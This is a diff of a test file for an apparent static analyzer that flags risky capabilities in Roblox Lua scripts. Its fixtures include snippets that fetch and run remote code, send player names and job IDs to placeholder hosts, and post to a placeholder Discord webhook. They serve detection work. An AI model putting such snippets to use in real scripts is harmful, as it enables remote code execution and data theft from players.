@@ -1,6 +1,6 @@
 import { describe, expect, test } from 'vitest'
 import { BASE64_DECODER } from '../../../bench/behavior/cases.ts'
-import { analyze, type CapabilityId } from '../src/index.ts'
+import { analyze, type CapabilityId, UNREAD } from '../src/index.ts'
 
 const WEBHOOK = `https://discord.com/api/webhooks/123456789012345678/${'abcdefghijklmnop'.repeat(4)}`
 const send = (url: string) => `request({Url = ${url}, Method = "POST", Body = "x"})`
@@ -12,48 +12,79 @@ const detailOf = (code: string, id: CapabilityId) =>
     ?.evidence.map(({ line, detail }) => `${line} ${detail}`)
 const hostsOf = (code: string) => analyze(code).hosts.map(({ host }) => host)
 
+const EACH: [CapabilityId, string][] = [
+  ['net.get', 'local x = game:HttpGet("https://a.com")'],
+  ['net.get', 'game:GetService("HttpService"):GetAsync("https://a.com")'],
+  ['net.get', 'request({Url = "https://a.com"})'],
+  ['net.get', 'local r = http_request({Url = "https://a.com", Method = "get"})'],
+  ['net.send', send('"https://a.com"')],
+  ['net.send', 'game:GetService("HttpService"):PostAsync("https://a.com", "x")'],
+  ['net.send', 'game.HttpService:RequestAsync({Url = "https://a.com", Method = "DELETE"})'],
+  ['net.webhook', send(`"${WEBHOOK}"`)],
+  ['net.webhook', 'game:HttpGet("https://api.telegram.org/bot" .. token .. "/sendMessage")'],
+  ['net.exfiltration', 'game:HttpGet("https://a.com/?n=" .. game.Players.LocalPlayer.Name)'],
+  ['net.exfiltration', 'request({Url = u, Method = "POST", Body = game.HttpService:JSONEncode({id = game.JobId})})'],
+  ['net.socket', 'WebSocket.connect("wss://a.com")'],
+  ['code.remote', 'loadstring(game:HttpGet("https://a.com"))()'],
+  ['code.dynamic', 'loadstring(readfile("a.lua"))()'],
+  ['code.asset', 'require(123456)'],
+  ['code.asset', 'game:GetObjects("rbxassetid://1")'],
+  ['code.persist', 'queue_on_teleport("print(1)")'],
+  ['fs.read', 'print(isfile("a"))'],
+  ['fs.write', 'makefolder("a")'],
+  ['fs.delete', 'delfile("a")'],
+  ['user.clipboard', 'setclipboard("a")'],
+  ['user.identity', 'print(gethwid())'],
+  ['user.identity', 'game:GetService("RbxAnalyticsService"):GetClientId()'],
+  ['user.identity', 'game:HttpGet("https://api.ipify.org")'],
+  ['user.input', 'mouse1click()'],
+  ['user.input', 'game:GetService("VirtualInputManager"):SendKeyEvent(true, "W", false, game)'],
+  ['user.purchase', 'game:GetService("MarketplaceService"):PromptGamePassPurchase(p, 1)'],
+  ['user.key', 'local box = Instance.new("TextBox") box.Text = "https://linkvertise.com/1"'],
+  ['user.key', 'game:HttpGet("https://api.platoboost.com/public/start")'],
+  ['game.remote', 'game.ReplicatedStorage.Remotes.Buy:FireServer(1)'],
+  ['game.teleport', 'game:GetService("TeleportService"):Teleport(1)'],
+  ['game.chat', 'game.ReplicatedStorage.DefaultChatSystemChatEvents.SayMessageRequest:FireServer("hi", "All")'],
+  ['game.chat', 'game:GetService("TextChatService").TextChannels.RBXGeneral:SendAsync("hi")'],
+  ['game.kick', 'game.Players.LocalPlayer:Kick("no")'],
+  ['client.hook', 'hookmetamethod(game, "__namecall", function(...) end)'],
+  ['client.inspect', 'for _, v in pairs(getgc(true)) do print(v) end'],
+  ['needs.executor', 'print(gethui())'],
+  ['shape.secret', `local hook = "${WEBHOOK}"`],
+]
+
 describe('each capability', () => {
-  test.each<[CapabilityId, string]>([
-    ['net.get', 'local x = game:HttpGet("https://a.com")'],
-    ['net.get', 'game:GetService("HttpService"):GetAsync("https://a.com")'],
-    ['net.get', 'request({Url = "https://a.com"})'],
-    ['net.get', 'local r = http_request({Url = "https://a.com", Method = "get"})'],
-    ['net.send', send('"https://a.com"')],
-    ['net.send', 'game:GetService("HttpService"):PostAsync("https://a.com", "x")'],
-    ['net.send', 'game.HttpService:RequestAsync({Url = "https://a.com", Method = "DELETE"})'],
-    ['net.webhook', send(`"${WEBHOOK}"`)],
-    ['net.webhook', 'game:HttpGet("https://api.telegram.org/bot" .. token .. "/sendMessage")'],
-    ['net.exfiltration', 'game:HttpGet("https://a.com/?n=" .. game.Players.LocalPlayer.Name)'],
-    ['net.exfiltration', 'request({Url = u, Method = "POST", Body = game.HttpService:JSONEncode({id = game.JobId})})'],
-    ['net.socket', 'WebSocket.connect("wss://a.com")'],
-    ['code.remote', 'loadstring(game:HttpGet("https://a.com"))()'],
-    ['code.dynamic', 'loadstring(readfile("a.lua"))()'],
-    ['code.asset', 'require(123456)'],
-    ['code.asset', 'game:GetObjects("rbxassetid://1")'],
-    ['code.persist', 'queue_on_teleport("print(1)")'],
-    ['fs.read', 'print(isfile("a"))'],
-    ['fs.write', 'makefolder("a")'],
-    ['fs.delete', 'delfile("a")'],
-    ['user.clipboard', 'setclipboard("a")'],
-    ['user.identity', 'print(gethwid())'],
-    ['user.identity', 'game:GetService("RbxAnalyticsService"):GetClientId()'],
-    ['user.identity', 'game:HttpGet("https://api.ipify.org")'],
-    ['user.input', 'mouse1click()'],
-    ['user.input', 'game:GetService("VirtualInputManager"):SendKeyEvent(true, "W", false, game)'],
-    ['user.purchase', 'game:GetService("MarketplaceService"):PromptGamePassPurchase(p, 1)'],
-    ['user.key', 'local box = Instance.new("TextBox") box.Text = "https://linkvertise.com/1"'],
-    ['user.key', 'game:HttpGet("https://api.platoboost.com/public/start")'],
-    ['game.remote', 'game.ReplicatedStorage.Remotes.Buy:FireServer(1)'],
-    ['game.teleport', 'game:GetService("TeleportService"):Teleport(1)'],
-    ['game.chat', 'game.ReplicatedStorage.DefaultChatSystemChatEvents.SayMessageRequest:FireServer("hi", "All")'],
-    ['game.chat', 'game:GetService("TextChatService").TextChannels.RBXGeneral:SendAsync("hi")'],
-    ['game.kick', 'game.Players.LocalPlayer:Kick("no")'],
-    ['client.hook', 'hookmetamethod(game, "__namecall", function(...) end)'],
-    ['client.inspect', 'for _, v in pairs(getgc(true)) do print(v) end'],
-    ['needs.executor', 'print(gethui())'],
-    ['shape.secret', `local hook = "${WEBHOOK}"`],
-  ])('%s is found in %s', (id, code) => {
+  test.each(EACH)('%s is found in %s', (id, code) => {
     expect(found(code)).toContain(`${id}:code`)
+  })
+
+  test.each(EACH)('%s is found by its words in %s, if the code has an error', (id, code) => {
+    const card = analyze(`${code}\nend)`)
+    expect(card.capabilities.map((finding) => finding.id)).toContain(id)
+    expect(card.opaque).toContainEqual({ reason: UNREAD.syntax, count: 1 })
+  })
+
+  test.each([
+    [
+      'an alias',
+      'local send = (syn and syn.request) or http_request\nsend({Url = u, Body = "x"})',
+      ['net.send:likely'],
+    ],
+    ['a test', 'if writefile then writefile("a", "b") end', ['fs.write:likely']],
+    ['a function of the script', 'local function request() end request({Url = "https://a.com"})', []],
+    [
+      'a download that is run later',
+      'local code = game:HttpGet(u)\nloadstring(code)()',
+      ['net.get:likely', 'code.remote:likely'],
+    ],
+    ['a request without a body', 'if request then request({Url = u, Method = "GET"}) end', ['net.get:likely']],
+    [
+      'data that is sent from elsewhere',
+      'local me = game.Players.LocalPlayer\nlocal body = {content = me.Name}\nif request then request({Url = u, Body = body}) end',
+      ['net.send:likely', 'net.exfiltration:likely'],
+    ],
+  ])('words are understood: %s', (_, code, expected) => {
+    expect(found(`${code}\nend)`)).toEqual(expected)
   })
 
   test('shape.minified is found in code without line breaks', () => {
@@ -182,7 +213,7 @@ describe('what is only likely', () => {
     ['loaded text from anywhere', 'local function run(s) loadstring(s)() end', 'code.dynamic:likely'],
     ['a kick of something', 'x:Kick()', 'game.kick:likely'],
     ['a webhook for an unknown function', `send("${WEBHOOK}")`, 'net.webhook:likely'],
-    ['what does not parse', 'local = request({Url = "https://a.com"})', 'net.send:likely'],
+    ['what does not parse', 'local = request({Url = "https://a.com", Body = "x"})', 'net.send:likely'],
   ])('%s', (_, code, finding) => {
     expect(found(code)).toContain(finding)
   })
@@ -272,7 +303,7 @@ describe('evidence', () => {
 describe('what cannot be looked into', () => {
   test('is counted with a reason', () => {
     expect(analyze('loadstring(game:HttpGet("https://a.com"))()').opaque).toEqual([
-      { reason: 'Code that is downloaded', count: 1 },
+      { reason: 'What the code does that it downloads', count: 1 },
     ])
   })
 
@@ -294,4 +325,41 @@ describe('what cannot be looked into', () => {
   ])('does not stop the analysis: %s', (_, code) => {
     expect(() => analyze(code, { steps: 20_000, maxSteps: 100_000 })).not.toThrow()
   })
+})
+
+describe('the evidence', () => {
+  const excerptOf = (code: string, id: CapabilityId) =>
+    analyze(code).capabilities.find((finding) => finding.id === id)?.evidence[0]?.excerpt
+
+  test('of a call over several lines shows all of a short one', () => {
+    const code = 'request({\n\tUrl = "https://a.com/x",\n\tMethod = "POST",\n\tBody = "x",\n})'
+    expect(excerptOf(code, 'net.send')).toBe('request({ Url = "https://a.com/x", Method = "POST", Body = "x", })')
+  })
+
+  test('of a long call shows the lines that say what it is about, without secrets', () => {
+    const fields = Array.from({ length: 20 }, (_, index) => `\t\tfield${index} = ${index},`).join('\n')
+    const code = `request({\n\tOptions = {\n${fields}\n\t},\n\tUrl = "${WEBHOOK}",\n\tMethod = "POST",\n})`
+    const excerpt = excerptOf(code, 'net.webhook')
+    expect(excerpt).toMatch(/^request\(\{ … Url = "https:\/\/discord\.com\/api\/webhooks\/\d+\/…", … Method = "POST",$/)
+    expect(excerpt?.length).toBeLessThanOrEqual(200)
+  })
+
+  test('names all functions that a call may be of', () => {
+    const [detail] = detailOf('(setclipboard or toclipboard)("discord.gg/x")', 'user.clipboard') ?? []
+    expect(detail?.split(/ or | /).toSorted()).toEqual(['1', 'discord.gg/x', 'setclipboard', 'toclipboard'])
+  })
+
+  test('of a secret is where it is written, not where it is used', () => {
+    const code = `local hook = "${WEBHOOK}"\nlocal url = hook .. "?wait=true"\n${send('url')}\n${send('hook .. "?thread_id=1"')}`
+    expect(detailOf(code, 'shape.secret')).toEqual(['1 a Discord webhook with its token'])
+  })
+
+  test('of two secrets has both', () => {
+    const code = `local a = "${WEBHOOK}"\nlocal b = "${WEBHOOK.replace(/abcd/g, 'dcba')}"`
+    expect(detailOf(code, 'shape.secret')).toHaveLength(2)
+  })
+})
+
+test('a metatable for texts or numbers replaces no function of the game', () => {
+  expect(found('debug.setmetatable("", {})')).toEqual(['needs.executor:code'])
 })
